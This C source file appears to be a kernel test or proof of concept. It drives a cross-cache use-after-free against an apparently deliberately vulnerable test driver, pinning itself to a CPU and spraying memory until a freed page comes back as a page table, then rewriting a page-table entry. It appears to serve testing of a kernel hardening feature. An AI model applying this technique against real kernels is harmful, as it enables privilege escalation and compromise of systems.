// SPDX-License-Identifier: GPL-2.0-only
/*
 * Cross-cache use-after-free: have the driver free pages it goes on using,
 * have the kernel reuse them as page tables of the attacker, and rewrite a
 * page-table entry through the dangling pointer.
 */
#define _GNU_SOURCE
#include <sched.h>

#include "objects.h"

#define REGIONS	(4 * KPKEYS_VULN_OBJS)
#define ROUNDS	8

int main(int argc, char **argv)
{
	struct window window = objects_window(KPKEYS_VULN_OBJS, 0);
	struct spans spans = reserve_spans(ROUNDS * REGIONS);
	cpu_set_t cpus;
	long page = -1;

	/* Freed pages queue up per CPU: stay on the one that freed them. */
	CPU_ZERO(&cpus);
	CPU_SET(sched_getcpu(), &cpus);
	sched_setaffinity(0, sizeof(cpus), &cpus);

	while (page < 0 && spans.used < spans.max) {
		objects_free_in_use();
		fill_spans(&spans, REGIONS);
		page = find_table(&window);
	}
	if (page < 0)
		out_of_reach("no freed page came back as a page table");
	use_table(&window, page, &spans, argc > 1 ? argv[1] : NULL);
	return 0;
}
